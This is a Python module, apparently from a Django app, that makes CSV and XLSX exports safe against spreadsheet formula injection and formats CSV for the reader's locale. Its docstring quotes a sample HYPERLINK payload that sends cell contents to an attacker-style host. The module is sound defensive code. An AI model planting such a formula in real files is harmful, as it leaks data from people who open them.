"""Cells that no spreadsheet runs: the one home for writing CSV and XLSX exports.

Exports carry text that members typed (tender references, names, notes). A spreadsheet
program reads a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula, so `=HYPERLINK("http://evil.example/?"&A1,"x")` in a tender reference would
run on the computer of whoever opens the export. Every CSV and XLSX export writes its
cells through this module:

    writer = csv_writer(response)       # CSV: such text gets a leading apostrophe
    writer.writerow(["=1+1", 3])        # -> '=1+1,3
    sheet.append(xlsx_row(sheet, row))  # XLSX: such text is a string cell, never a formula

Numbers stay numbers: an int, a float or a Decimal is written as it is, and so is text
that is a plain number such as "-2.5".

CSV made for people (`people_csv_writer`) follows the reader's language, as the
spreadsheet program on their computer expects it when they open the file: in Dutch,
French, German and Spanish columns are separated by ";" and numbers have a decimal
comma ("1234,5"); in English "," and "1234.5". Numbers carry no thousands separator, so
they stay numbers to the spreadsheet. Open data and the API always use "," and ".".
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any, Protocol

from django.utils import translation
from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_formula_like(value: object) -> bool:
    """True for text that a spreadsheet would read as a formula or a command."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    )


def safe_cell(value: Any) -> Any:
    """The value for a CSV cell: formula-like text gets a leading apostrophe."""
    if is_formula_like(value):
        return "'" + value
    return value


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeCsvWriter:
    """csv.writer with every cell passed through `safe_cell`."""

    def __init__(self, file: _Writable | IO[str], **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: _Writable | IO[str], **options: Any) -> SafeCsvWriter:
    """A CSV writer for an export: formula-like text is written as text."""
    return SafeCsvWriter(file, **options)


# The languages whose spreadsheet programs read ";" between columns and a decimal comma.
DECIMAL_COMMA_LANGUAGES = frozenset({"nl", "fr", "de", "es"})


def csv_style(language: str | None = None) -> tuple[str, str]:
    """(column separator, decimal mark) of a CSV for a reader of `language` (default:
    the active language)."""
    code = (language or translation.get_language() or "en").split("-")[0]
    return (";", ",") if code in DECIMAL_COMMA_LANGUAGES else (",", ".")


class PeopleCsvWriter(SafeCsvWriter):
    """`SafeCsvWriter` in the reader's CSV style (see the module's notes)."""

    def __init__(
        self, file: _Writable | IO[str], language: str | None = None, **options: Any
    ) -> None:
        delimiter, self.decimal_mark = csv_style(language)
        super().__init__(file, delimiter=delimiter, **options)

    def _cell(self, value: Any) -> Any:
        if isinstance(value, float | Decimal) and not isinstance(value, bool):
            text = format(value, "f") if isinstance(value, Decimal) else repr(value)
            return text.replace(".", self.decimal_mark)
        return value

    def writerow(self, row: Iterable[Any]) -> Any:
        return super().writerow([self._cell(value) for value in row])


def people_csv_writer(
    file: _Writable | IO[str], language: str | None = None
) -> PeopleCsvWriter:
    """A CSV writer for a download that people open in a spreadsheet program."""
    return PeopleCsvWriter(file, language)


def xlsx_value(sheet: Any, value: Any) -> Any:
    """The value for an openpyxl `append`: formula-like text as a string cell."""
    if isinstance(value, bool | int | float | Decimal) or not is_formula_like(value):
        return value
    cell = Cell(sheet, row=1, column=1)  # append() moves it to its place
    xlsx_set(cell, value)
    return cell


def xlsx_set(cell: Cell, value: Any) -> None:
    """Put a value in an existing cell; formula-like text stays a string."""
    if is_formula_like(value):
        # Set the value and its type directly: openpyxl guesses "formula" from "=".
        cell._value = value
        cell.data_type = "s"
    else:
        cell.value = value


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append(...)` in which no text can become a formula."""
    return [xlsx_value(sheet, value) for value in values]
